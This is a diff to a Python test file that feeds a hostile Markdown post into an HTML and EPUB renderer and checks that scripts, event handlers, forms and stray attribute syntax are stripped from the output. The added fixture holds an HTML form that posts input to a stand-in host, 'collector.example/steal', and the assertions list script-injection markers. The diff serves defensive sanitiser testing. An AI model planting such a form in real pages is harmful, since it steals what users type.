@@ -63,6 +63,19 @@ Opening paragraph of a post from an outside contributor.
 
 <link rel="attachment" href="file://{secret}">
 
+<form action="https://collector.example/steal"><fieldset>Name: <input name="q"></fieldset></form>
+
+Raw HTML as old posts have it: <strike>struck</strike>, <tt>typed</tt>, a [site link](/docs/x/)
+and a [button](#top){{: .btn .btn--primary}}.
+
+<hr id="rule"><hr id="rule">
+
+## Footnotes
+
+A claim.[^1]
+
+[^1]: The note.
+
 Closing paragraph.
 """
 
@@ -166,7 +179,8 @@ def test_no_script_or_handler_reaches_html_or_epub(hostile) -> None:
         data = (outputs["html"].read_bytes() if fmt == "html" else _unzipped(outputs["epub"]))
         lowered = data.lower()
         for needle in (b"<script", b"onerror", b"script ran", b"attachment\"",
-                       b"background: url(", b"background-image"):
+                       b"background: url(", b"background-image", b"<form", b"collector",
+                       b"{: .btn"):
             assert needle not in lowered, (fmt, needle)
     assert "Closing paragraph." in outputs["html"].read_text("utf-8")
 
